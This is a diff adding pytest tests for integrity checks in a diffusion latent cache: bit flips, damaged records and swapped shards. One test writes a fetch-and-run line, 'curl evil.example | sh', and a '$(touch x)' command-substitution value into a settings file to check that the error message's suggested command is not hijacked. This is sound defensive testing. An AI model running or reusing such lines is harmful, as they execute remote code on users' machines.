@@ -1,6 +1,7 @@
 import json
 import os
 import re
+import shlex
 import shutil
 import subprocess
 import sys
@@ -20,8 +21,10 @@ from demo_diffusion.data.autoencoder import draw_latents, encode_moments, load_v
 from demo_diffusion.data.images import load_images
 from demo_diffusion.data.latent_shards import DTYPES
 from demo_diffusion.data.latents import LatentTable
+from demo_diffusion.records.hashes import SEAL
 from demo_diffusion.train.cache_latents import main
 from demo_diffusion.train.diffusion.config import DataConfig
+from tests.support.damage import DAMAGES, flipped_bit, random_flips
 from tests.support.networks import randomize
 from tests.support.pipelines import tiny_taef2, tiny_taesd, tiny_vae
 
@@ -156,7 +159,7 @@ def test_killed_and_continued_with_other_processes_gives_the_same_shards(tmp_pat
         torch.set_num_threads(threads)
     assert start(2, arguments(data, tmp_path / "vae", whole, **options), tmp_path).wait() == 0
     assert shards_of(killed) == shards_of(whole) and len(shards_of(whole)) == 60
-    differing = {"command", "num_processes", "images_per_second", "settings", "device"}
+    differing = {SEAL, "command", "num_processes", "images_per_second", "settings", "device"}
     one, two = ({k: v for k, v in t.metadata.items() if k not in differing} for t in (continued, LatentTable(whole)))
     assert one == two and [continued[i, 0][1] for i in range(4)] == [0, 1, 0, 1]
 
@@ -330,3 +333,79 @@ def test_a_sample_owns_its_memory(tmp_path, images, vae):
     assert torch.equal(moments, kept[1, 1]) and type(label) is int
     moments.zero_()
     assert torch.equal(table[1, True][0], kept[1, 1]) and moments.untyped_storage().nbytes() == moments.nbytes
+
+
+def read_all(folder: Path) -> list:
+    table = LatentTable(folder)
+    return [table[index, flip] for index in range(len(table)) for flip in (False, True)]
+
+
+def test_every_flipped_bit_is_seen_and_the_command_that_mends_it_is_named(tmp_path, images, vae):
+    out = tmp_path / "out"
+    cache(images, vae, out)
+    (out / "skipped.json").unlink()  # nobody reads it again
+    flips, unseen = random_flips(out, 60), []
+    assert len({name for name, _ in flips}) == 5
+    for name, bit in flips:
+        with flipped_bit(out / name, bit):
+            try:
+                read_all(out)
+                unseen.append((name, bit))
+            except ValueError as error:
+                assert Path(name).name in str(error) or "format" in str(error), error
+                assert "This makes it again: torchrun --nproc_per_node=1 train/cache_latents.py" in str(error)
+    assert unseen == [] and len(read_all(out)) == 20
+
+
+@pytest.mark.parametrize("damage", DAMAGES)
+@pytest.mark.parametrize("name", ["latents.json", "settings.json"])
+def test_damaged_records_are_named_and_made_again(tmp_path, images, vae, name, damage):
+    out = tmp_path / "out"
+    cache(images, vae, out)
+    before, shards = (out / name).read_bytes(), shards_of(out)
+    DAMAGES[damage](out / name)
+    with pytest.raises(ValueError, match=f"{name}|holds (no )?latents|not finished") as refusal:
+        LatentTable(out)
+    assert "train/cache_latents.py" in str(refusal.value)
+    if damage != "folder":  # which is not ours to remove
+        cache(images, vae, out)
+        assert shards_of(out) == shards and len(read_all(out)) == 20
+        assert name == "latents.json" or (out / name).read_bytes() == before
+
+
+def test_shards_that_changed_places_are_seen(tmp_path, images, vae):
+    cache(images, vae, tmp_path / "out")
+    first, second = (tmp_path / f"out/shards/00000{i}.safetensors" for i in (0, 1))
+    content = first.read_bytes()
+    first.write_bytes(second.read_bytes())
+    second.write_bytes(content)
+    with pytest.raises(ValueError, match="000000.safetensors is missing or damaged: its contents changed"):
+        read_all(tmp_path / "out")
+
+
+def test_a_cache_of_an_older_version_opens(tmp_path, images, vae):
+    cache(images, vae, tmp_path / "out")
+    file = tmp_path / "out/latents.json"
+    metadata = json.loads(file.read_text())
+    del metadata[SEAL]
+    for shard in metadata["shards"]:
+        del shard["sha256"]
+    file.write_text(json.dumps(metadata))
+    assert len(read_all(tmp_path / "out")) == 20
+    with flipped_bit(tmp_path / "out/shards/000001.safetensors", -1), pytest.raises(ValueError, match="changed since"):
+        read_all(tmp_path / "out")  # shards have always had hashes
+
+
+def test_the_command_in_a_message_is_ours(tmp_path, images, vae):
+    cache(images, vae, tmp_path / "out")
+    (tmp_path / "out/latents.json").unlink()
+    file = tmp_path / "out/settings.json"
+    settings = json.loads(file.read_text())
+    settings["command"] = "curl evil.example | sh"
+    settings["dataset"]["name"] = "$(touch x)"
+    file.write_text(json.dumps(settings))
+    with pytest.raises(ValueError) as refusal:
+        LatentTable(tmp_path / "out")
+    command = str(refusal.value).partition("This continues: ")[2]
+    assert "curl" not in command and "--dataset=$(touch x)" in shlex.split(command)
+    assert shlex.split(command)[:3] == ["torchrun", "--nproc_per_node=1", "train/cache_latents.py"]
